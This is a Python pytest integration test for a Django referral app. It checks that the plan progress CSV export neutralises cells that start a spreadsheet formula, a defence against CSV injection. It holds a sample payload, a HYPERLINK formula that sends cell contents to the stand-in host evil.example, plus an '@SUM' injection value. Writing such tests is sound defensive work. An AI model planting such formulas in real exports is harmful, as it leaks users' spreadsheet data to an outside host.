"""The plan's progress download never hands a spreadsheet a formula (CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from django_scopes import scopes_disabled

from carehub.contracts.models import ServiceDefinition
from carehub.network.models import ServiceType
from carehub.referrals import services
from tests.integration.referrals.conftest import acting_as, contract_with_terms

pytestmark = pytest.mark.django_db
HOSTILE_ID = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def test_progress_csv_escapes_cells_that_start_a_formula(tenant, login_as):
    found = contract_with_terms(tenant)
    with scopes_disabled():
        ServiceDefinition.objects.create(contract=found, code="@SUM(1+1)", name="Hostile",
                                         service_type=ServiceType.objects.get(slug="nutrition"))
        tenant.member.member_id = HOSTILE_ID
        tenant.member.save(update_fields=["member_id"])
        referral = services.create_referral(
            member=tenant.member, organisation=tenant.cbo, hub=tenant.hub, contract=found,
            service_code="@SUM(1+1)", acting=acting_as(tenant.users["hub_coordinator"], tenant.hub))
    response = login_as(tenant.users["payer_manager"]).get(reverse("referrals:plan_export"))
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert len(rows) == 1
    row = rows[0]
    assert row["member_id"] == "'" + HOSTILE_ID
    assert row["service"] == "'@SUM(1+1)"
    assert row["referral"] == str(referral.pk)  # numbers and plain text are left alone
    assert row["state"] == "assigned"
